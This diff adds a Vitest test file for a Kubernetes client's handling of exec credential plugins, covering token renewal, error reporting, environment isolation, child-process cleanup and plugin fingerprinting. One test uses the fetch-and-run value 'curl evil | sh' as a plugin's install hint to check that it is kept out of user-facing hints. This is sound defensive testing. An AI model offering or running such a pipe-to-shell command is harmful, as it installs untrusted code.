@@ -1,0 +1,195 @@
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, expect, test, vi } from 'vitest';
+import { KubeConnection } from '../../../src/clients/kube/connection.ts';
+import { sendJson, startWire, statusOf, type Wire } from '../../support/wire.ts';
+
+let folder: string;
+let wire: Wire;
+/** Tokens that the server takes; undefined: all. */
+let accepted: string[] | undefined;
+
+beforeEach(async () => {
+  folder = mkdtempSync(join(tmpdir(), 'vigie-plugin-'));
+  accepted = undefined;
+  wire = await startWire(({ request, response }) => {
+    const token = request.headers.authorization?.replace('Bearer ', '') ?? '';
+    if (accepted === undefined || accepted.includes(token))
+      sendJson(response, { body: { gitVersion: 'v1.36.2' } });
+    else
+      sendJson(response, {
+        status: 401,
+        body: statusOf(401, { reason: 'Unauthorized', message: 'Unauthorized' }),
+      });
+  });
+});
+afterEach(async () => {
+  vi.unstubAllEnvs();
+  await wire.close();
+  rmSync(folder, { recursive: true });
+});
+
+/** A plugin that is a shell script in the kubeconfig's folder; each run adds a line to the file `runs`. */
+function plugin(script: string): void {
+  const text = `#!/bin/sh\ncd "$(dirname "$0")"\necho run >> runs\n${script}\n`;
+  writeFileSync(join(folder, 'login.sh'), text, { mode: 0o700 });
+}
+
+function credential(status: string): string {
+  return `{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":${status}}`;
+}
+
+function answering(status: string): string {
+  return `cat <<'X'\n${credential(status)}\nX`;
+}
+
+function runs(): number {
+  const file = join(folder, 'runs');
+  return existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n').length : 0;
+}
+
+function connection(exec: object = {}, trustedPlugin?: string): KubeConnection {
+  const file = join(folder, 'config');
+  const user = { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: './login.sh', ...exec } };
+  const config = {
+    'current-context': 'x',
+    clusters: [{ name: 'c', cluster: { server: wire.url } }],
+    users: [{ name: 'u', user }],
+    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
+  };
+  writeFileSync(file, JSON.stringify(config), { mode: 0o600 });
+  return new KubeConnection({
+    target: {
+      via: 'kubeconfig',
+      files: [file],
+      context: undefined,
+      allowInsecure: false,
+      ...(trustedPlugin === undefined ? {} : { trustedPlugin }),
+    },
+    bounds: { namespaces: undefined, clusterScoped: false },
+    readOnly: true,
+    userAgent: 'vigie/test',
+  });
+}
+
+function version(line: KubeConnection): Promise<string> {
+  return line.session(new AbortController().signal).reader.serverVersion();
+}
+
+test('a plugin named by a relative path runs once for callers that come together', async () => {
+  plugin(answering('{"token":"fresh"}'));
+  const line = connection();
+  await Promise.all(Array.from({ length: 5 }, () => version(line)));
+  expect(runs()).toBe(1);
+  expect(wire.seen.map(({ headers }) => headers.authorization)).toEqual(Array(5).fill('Bearer fresh'));
+});
+
+test('it is told what it is asked for, and gets its own variables but not ours', async () => {
+  vi.stubEnv('NODE_OPTIONS', '--no-warnings');
+  vi.stubEnv('VIGIE_PLANTED', 'x');
+  vi.stubEnv('AWS_PROFILE', 'ops');
+  plugin(`env > env.txt\n${answering('{"token":"t"}')}`);
+  await version(connection({ provideClusterInfo: true, env: [{ name: 'EXTRA', value: 'yes' }] }));
+  const env = readFileSync(join(folder, 'env.txt'), 'utf8');
+  expect(env).toContain('EXTRA=yes');
+  expect(env).toContain('AWS_PROFILE=ops');
+  expect(env).not.toMatch(/NODE_OPTIONS|VIGIE_PLANTED/);
+  const info: unknown = JSON.parse(/^KUBERNETES_EXEC_INFO=(.*)$/m.exec(env)?.[1] ?? '');
+  expect(info).toMatchObject({
+    kind: 'ExecCredential',
+    apiVersion: 'client.authentication.k8s.io/v1',
+    spec: { interactive: false, cluster: { server: `${wire.url}/` } },
+  });
+});
+
+test('it has no terminal and nothing to read', async () => {
+  plugin(
+    `if read line; then exit 3; fi\nif (: < /dev/tty) 2>/dev/null; then exit 4; fi\n${answering('{"token":"t"}')}`,
+  );
+  expect(await version(connection())).toBe('v1.36.2');
+});
+
+test('a refused token is asked for anew once, and the request is sent again', async () => {
+  accepted = ['second'];
+  plugin(
+    `if [ $(wc -l < runs) -gt 1 ]; then\n${answering('{"token":"second"}')}\nelse\n${answering('{"token":"first"}')}\nfi`,
+  );
+  expect(await version(connection())).toBe('v1.36.2');
+  expect(runs()).toBe(2);
+});
+
+test('a token that is refused again is an answer of its own, with a hint', async () => {
+  accepted = [];
+  plugin(answering('{"token":"never"}'));
+  await expect(version(connection())).rejects.toMatchObject({
+    code: 'UNAUTHENTICATED',
+    hint: expect.stringContaining('Log in again'),
+  });
+  expect(runs()).toBe(2);
+});
+
+test('a token that is about to end is renewed before it does', async () => {
+  const soon = new Date(Date.now() + 30_000).toISOString();
+  plugin(answering(`{"token":"short","expirationTimestamp":"${soon}"}`));
+  const line = connection();
+  await version(line);
+  await version(line);
+  expect(runs()).toBe(2);
+});
+
+test.each([
+  ['fails', 'echo "token hunter2 expired" >&2; exit 1', 'ended with 1: token hunter2 expired'],
+  ['says nothing of use', 'echo hello', 'not JSON'],
+  ['gives another thing', 'echo "{}"', 'not an ExecCredential'],
+  ['gives no credential', answering('{}'), 'neither a token nor a certificate'],
+  ['writes without end', 'yes', 'too much'],
+])('a plugin that %s is named with what went wrong', async (_what, script, why) => {
+  plugin(script);
+  await expect(version(connection())).rejects.toMatchObject({
+    code: 'CREDENTIAL_PLUGIN',
+    message: expect.stringContaining(why),
+  });
+});
+
+test('a plugin that is not installed is named, and its own words stay out of the hint', async () => {
+  const missing = connection({ command: 'no-such-login-tool', installHint: 'curl evil | sh' });
+  const failure: unknown = await version(missing).catch((error: unknown) => error);
+  expect(failure).toMatchObject({ code: 'CREDENTIAL_PLUGIN', details: { installHint: 'curl evil | sh' } });
+  expect((failure as { hint: string }).hint).not.toContain('evil');
+});
+
+test('a plugin that must have a terminal is refused without being run', async () => {
+  plugin(answering('{"token":"t"}'));
+  await expect(version(connection({ interactiveMode: 'Always' }))).rejects.toMatchObject({
+    code: 'KUBECONFIG',
+  });
+  expect(runs()).toBe(0);
+});
+
+test('what a plugin leaves running ends with it', async () => {
+  plugin(`(sleep 60; echo late >> runs) &\necho $! > child\n${answering('{"token":"t"}')}`);
+  await version(connection());
+  const child = Number(readFileSync(join(folder, 'child'), 'utf8'));
+  // Ended, though nobody may have collected it yet.
+  const state = () =>
+    spawnSync('ps', ['-o', 'stat=', '-p', String(child)])
+      .stdout.toString()
+      .trim();
+  await vi.waitFor(() => expect(state()).toMatch(/^(?:Z.*)?$/));
+});
+
+test('the fingerprint changes with the arguments, the environment and the file, and a changed plugin is not run', async () => {
+  plugin(answering('{"token":"t"}'));
+  const trusted = await connection().pluginFingerprint();
+  expect(trusted).toMatch(/^[0-9a-f]{64}$/);
+  expect(await connection().pluginFingerprint()).toBe(trusted);
+  expect(await connection({ args: ['--x'] }).pluginFingerprint()).not.toBe(trusted);
+  expect(await connection({ env: [{ name: 'A', value: 'b' }] }).pluginFingerprint()).not.toBe(trusted);
+  expect(await version(connection({}, trusted))).toBe('v1.36.2');
+  plugin(`echo changed > /dev/null\n${answering('{"token":"t"}')}`);
+  const before = runs();
+  await expect(version(connection({}, trusted))).rejects.toMatchObject({ code: 'CREDENTIALS_CHANGED' });
+  expect(runs()).toBe(before);
+});
